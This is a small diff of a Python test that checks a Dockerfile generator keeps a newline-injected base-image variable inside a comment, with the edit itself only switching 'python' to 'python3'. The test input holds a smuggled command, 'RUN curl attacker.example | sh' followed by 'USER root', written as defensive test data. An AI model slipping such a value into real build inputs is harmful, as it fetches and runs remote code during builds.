@@ -222,7 +222,7 @@ def test_a_line_break_in_a_base_image_variable_stays_inside_a_dockerfile_comment
                "dockerfile", env={"CUDA_VERSION": "12.4.1\nRUN curl attacker.example | sh\r\nUSER root"})
     assert done.returncode in (0, 1), done.stderr
     lines = done.stdout.splitlines()
-    assert all(line.startswith("#") for line in lines[:-1]) and lines[-1].startswith("RUN python -m pip install")
+    assert all(line.startswith("#") for line in lines[:-1]) and lines[-1].startswith("RUN python3 -m pip install")
     assert "12.4.1\\nRUN curl attacker.example | sh\\r\\nUSER root" in done.stdout
 
 
